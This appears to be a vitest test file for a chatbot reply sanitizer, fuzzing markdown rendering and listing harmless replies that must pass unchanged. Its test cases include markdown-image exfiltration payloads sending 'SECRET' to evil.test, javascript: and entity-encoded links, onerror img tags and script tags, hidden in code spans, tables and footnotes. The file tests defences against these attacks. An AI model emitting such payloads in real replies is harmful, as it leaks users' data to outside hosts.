import { describe, expect, it } from 'vitest'
import { readStyled } from '../../../src/channels/styled-text'
import { createReplySanitizer } from '../../../src/chat/sanitize-reply'
import { readMarkdown } from '../../../src/text/markdown'
import { fuzzSanitizer, sanitize, shown, whole } from '../../support/sanitizer-fuzz'
import { readPage } from '../../support/shown-markdown'

const CASES = 500

describe('what renderers make of a sanitised reply', () => {
  it('shows nothing forbidden, however the text was cut', { timeout: 120_000 }, () => {
    const { finds, attacks } = fuzzSanitizer(CASES, 1)
    expect(finds).toEqual([])
    // The replies are worth sanitising: most would show something as they are.
    expect(attacks).toBeGreaterThan(100)
  })

  it.each([
    'See https://a.example/` ![a](https://evil.test/?q=SECRET) `',
    'https://a.example\\<img src="https://evil.test/?q=SECRET">',
    '- &<![CDATA[|``?>!\t]](https://e/)',
    '!![[x](https://evil.test)](javascript:1)',
    '<[img src=x onerror=1](javascript:0)>',
    '[x](data:a)(javascript:b)',
    '[x](data:a): javascript:b',
    '[1]:(javascript:b)',
    '<javascript:![x](https://evil.test/p)>',
    '~a `~ ![x](https://evil.test/p)`',
    '*x `` a* ![x](https://evil.test/p) ``',
    '[x `` a](javascript:alert(1)) ``',
    '[a](x`c) ![x](https://evil.test/p) `d`',
    '[a](/u "t\n`x`y") ![i](https://evil.test/p) `z`',
    'a `b\n` ![x](https://evil.test/p) `',
    '`x` ![](https://evil.test/p)`` ![x](https://evil.test/p) ``',
    '  ```\nx\n```\n![x](https://evil.test/p)\n```',
    'text\n2. ```js\n![x](https://evil.test/p)\n```',
    'a\r![x](https://evil.test/p)\r```\r![x](https://evil.test/p)',
    '| `x | ![x](https://evil.test/p)` |\n|---|\n',
    '[^1]: <br>\n`<img src=x>`',
    '[^1]: text\n\n    <img src=x>',
    '- a\nlazy\n\n    <img src=x>',
    '[x](&#0000000106;avascript:alert(1))',
    '![x](/v1/me/attachments/&percnt;2e&percnt;2e/)',
    'ftp://evil.test/x',
    'xmpp:a@evil.test/x',
    '[^1]\n\n[^1]:\ufeffp:',
    '[](\u00a0p:)',
    '* ]||\n-|-\n`|`[`<img>`',
    '](<> "ftp://x")',
    '    code\n0. ```[x](javascript:1)',
    '>```\n    >![x](https://evil.test/p)',
    '[^]:](\n```)\n<script>',
    '[a]: x "\n\n```\n"\n\n<script>',
    '[a]: x\n"b\n\n```\n"\n\n<script>',
    '[a]:\nx "b\n\n```\n"\n\n<script>',
    '[a]: x\n[](javascript:1)"\n\n```\n"\n\n<script>',
    '[](![](/)a:)',
    '\t_\n\n0. ~~~<??>',
    '~~~|-\n-|-\n[](t&colon;)',
    '~~[~``](t:)``',
    '[r]:# \n(\n```)\n[](t&colon;)',
    '[a]: x ["b](javascript:1)\n\n```\n"\n\n<script>',
    '<```@e>![](//evil.test/p)```',
    '[`]`n```](t:)```',
    '[``o`e``]`](t:)`',
    '* )\ufeff\n0. ~~~[](t:)',
    '* `\n  2. ~~~<v>',
    '1.\n\n    d\n    `\n\n0. ~~~<e>',
    '>\n\n    )\n\n0. ~~~[](a:)',
    '[\n```]:-\n<c>',
  ])('%j', (reply) => {
    expect(shown(whole(reply))).toEqual([])
    expect(sanitize(reply, () => 1)).toBe(whole(reply))
  })
})

/** Replies as models write them. */
const REPLIES = [
  'Returns are accepted within **30 days** [1]. Keep the receipt: without it we offer a *voucher* [2][3].\n\nSee [our page](https://shop.example/returns_(eu)?a=1&b=2#how "Returns"), write to <help@shop.example> or https://shop.example/help.',
  '# Title\n\n## Steps\n\n1. Install:\n   ```bash\n   npm i <name> && cat <file | grep "a](b"\n   ```\n2. Run `npm run <script>`:\n    ```sh\n    echo `date` > out\n    ```\n\n- one\n  - two\n    ```ts\n    const x: Array<string> = a[0](1)\n    ```\n  - [ ] open\n  - [x] done\n',
  '| Call | Gives |\n|:-----|------:|\n| `list()` | `Array<Item>` |\n| [docs](https://d.example) | a \\| b <br> c |\n\nUse `string | Promise<string>` or ``a `b` c``.',
  '> Quoted *text* with `code`\n> ```html\n> <p>![x](y)</p>\n> ```\n\n---\n\n~~old~~ new: 5 < 6 > 4, a <- b, x != y! [see below]: it costs $5 & more.',
  '```html\n<script src="x"></script>\n<!-- ![a](b) -->\n```\n\n~~~md\n```js\n[1]: javascript:void(0)\n```\n~~~\n\n````\n```\n````\n',
  'Call `f[0](x)`, `<div>`, `![alt](src)`, `[a]: b` and `&lt;`; then arr[0](a, b) or [x] and f(x)[y].',
  '茶馆早上七点半开门 [1]。请看 [菜单](https://cha.example/菜单)！\n\n- **价格**：`<价格>` 45 元\n',
  'A paragraph.\n\n    indented <code>\n    ![stays](as it is)\n\nAnother\\\nline with \\* and \\_ and \\[x\\].',
  'A note.[^1]\n\n[^1]: The text of the note, with [a link](https://n.example).\n\n[docs]: https://d.example "Docs"\n\nSee [docs].',
  '**Types**: [`Map<K, V>`](https://d.example/map) and `my_type<x>`\n* *soft* `<p *q>`\n* ![mine](/v1/me/attachments/1.png "t")',
  'See [1], [`map`](https://d.example/map) and [the [2] list](https://d.example): then call `f[0](x)` or `[a]: b`.',
  'E-mail a@b.example, www.example.com, ~5 km, C:\\temp\\new, 10:30, "quoted" (brackets) {braces} #tag 100% a_b_c 🙂',
]

describe('harmless replies', () => {
  it.each(REPLIES)('%j stays as it is', (reply) => {
    expect(whole(reply)).toBe(reply)
    expect(sanitize(reply, () => 1)).toBe(reply)
  })

  it('leaves as soon as it is decided', () => {
    const sanitizer = createReplySanitizer({ imagePrefixes: [] })
    const given = [
      'A sentence. ',
      'Then `co',
      'de` and',
      ' [a link](https://x',
      '.example) follows',
    ].map((piece) => sanitizer.push(piece))
    expect(given).toEqual([
      'A sentence. ',
      'Then ',
      '`code` and',
      ' ',
      '[a link](https://x.example) follows',
    ])
  })
})

describe('what is escaped', () => {
  const escaped = whole('a ` b, <b>, List<String>, ~~~, [1]: x, ![y], [z](x "y)')
  const text = 'a ` b, <b>, List<String>, ~~~, [1]: x, ! [y], [z] (x "y)'

  it('reads as text in a messenger', () => {
    expect(
      readStyled(escaped, readMarkdown)
        .map((run) => run.text)
        .join(''),
    ).toBe(text)
  })

  it('reads as text on the page', () => {
    expect(readPage(escaped, false)).toBe(`<p>${text}</p>`)
  })
})
